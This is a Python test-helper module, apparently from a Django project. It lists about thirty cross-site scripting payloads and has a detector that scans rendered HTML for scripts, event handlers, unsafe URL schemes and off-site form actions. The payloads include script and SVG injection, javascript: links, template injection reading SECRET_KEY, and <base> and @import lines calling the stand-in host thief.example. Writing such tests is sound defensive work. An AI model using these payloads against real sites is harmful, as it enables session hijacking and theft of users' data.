"""What people write who want others' browsers to run it, and how to tell from a page whether one would."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from urllib.parse import urlsplit

from selectolax.lexbor import LexborHTMLParser, LexborNode

# Each calls stolen() with a number of its own, by which a test says which one got through. Fields cut them off.
PAYLOADS = tuple(
    text.replace("N", str(number))
    for number, text in enumerate(
        (
            "<script>stolen(N)</script>",
            "</script><script>stolen(N)</script>",
            '"><script>stolen(N)</script>',
            "'><svg onload=stolen(N)>",
            "<img src=x onerror=stolen(N)>",
            '" autofocus onfocus="stolen(N)',
            "' onmouseover='stolen(N)",
            "`onclick=stolen(N)//",
            "</title><svg/onload=stolen(N)>",
            "</textarea><img src onerror=stolen(N)>",
            "--><img src onerror=stolen(N)><!--",
            "]]><img src onerror=stolen(N)><![CDATA[",
            "&lt;img src onerror=stolen(N)&gt;",
            "<svg><style><img src onerror=stolen(N)>",
            "<math><a xlink:href=javascript:stolen(N)>",
            "<a href=javascript:stolen(N)>x</a>",
            "[x](javascript:stolen(N))",
            "![x](javascript:stolen(N))",
            "[x](java&#x0A;script:stolen(N))",
            "[x](data:text/html,<script>stolen(N)</script>)",
            "<javascript:stolen(N)>",
            '![x](/x "onerror=stolen(N)")',
            '[x](/ " onclick=stolen(N) ")',
            "<iframe srcdoc='<script>stolen(N)</script>'>",
            "<form><button formaction=javascript:stolen(N)>",
            "<base href=//thief.example/stolen(N)/>",
            "<style>@import'//thief.example/stolen(N)'</style>",
            "{{constructor.constructor('stolen(N)')()}}",
            "{% debug %}{{ settings.SECRET_KEY }}N",
            "\\u003cscript\\u003estolen(N)\\u003c/script\\u003e",
            "javascript:stolen(N)",
        )
    )
)
# Several at once: where texts are escaped as they should be, it does not matter what stands beside them.
BUNCHES = tuple(" ".join(PAYLOADS[start : start + 4]) for start in range(0, len(PAYLOADS), 4))
MARK = re.compile(r"stolen\(\d+|thief\.example")
LINKS = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite", "ping")
OUR_SCRIPTS = ("/static/", "/admin/jsi18n/")
HARMLESS_SCHEMES = {"", "http", "https", "mailto"}
DATA_BLOCKS = {"application/json", "application/ld+json"}
# Nothing of ours needs them, and a browser would load or run what they name.
NEVER = {"iframe", "object", "embed", "base", "applet", "frame"}
# What Alpine, in the admin's theme, runs as a script.
EVALUATED = re.compile(r"^(?:x-|@|:)")


def find_harm(page: str, *, host: str = "testserver", styled: bool = False) -> list[str]:
    """Name what in a page would run, load or send what a reader wrote; `styled` where a theme brings styles inline."""
    return [
        f"{what} in {(node.html or '')[:160]}"
        for node in _elements(page)
        for what in _harm_of(node, host, styled)
    ]


def _elements(page: str) -> Iterator[LexborNode]:
    root = LexborHTMLParser(page).root
    assert root is not None
    for node in root.traverse(include_text=False):
        yield node
        if node.tag == "template":  # a document of its own, which the traversal leaves out
            yield from _elements((node.html or "").replace("<template", "<div", 1))


def _harm_of(node: LexborNode, host: str, styled: bool) -> Iterator[str]:
    attributes = {name.lower(): value or "" for name, value in node.attributes.items()}
    if node.tag in NEVER or MARK.search(node.tag or ""):
        yield f"<{node.tag}>"
    if node.tag == "script":
        yield from _harm_of_script(node, attributes)
    if node.tag == "style" and (not styled or MARK.search(node.text())):
        yield "a style sheet"
    if node.tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
        yield "a refresh"
    for name, value in attributes.items():
        if name.startswith("on") or name == "srcdoc" or MARK.search(name):
            yield f"the attribute {name}"
        if name == "style" and (not styled or MARK.search(value)):
            yield "a style"
        if EVALUATED.match(name) and MARK.search(value):
            yield f"an expression in {name}"
        if name in LINKS and not _is_harmless(value):
            yield f"the address {value!r} in {name}"
        if name in ("action", "formaction") and urlsplit(value).netloc not in ("", host):
            yield f"a form for {value!r}"


def _harm_of_script(node: LexborNode, attributes: dict[str, str]) -> Iterator[str]:
    if attributes.get("type") in DATA_BLOCKS:
        json.loads(node.text())  # else something ended it early
    elif not attributes.get("src", "").startswith(OUR_SCRIPTS) or node.text().strip():
        yield "a script"


def _is_harmless(address: str) -> bool:
    """Whether the scheme, as a browser reads it, is one that only fetches."""
    compact = re.sub(r"[\x00-\x20]+", "", address)
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", compact)
    return scheme is None or scheme[1].lower() in HARMLESS_SCHEMES
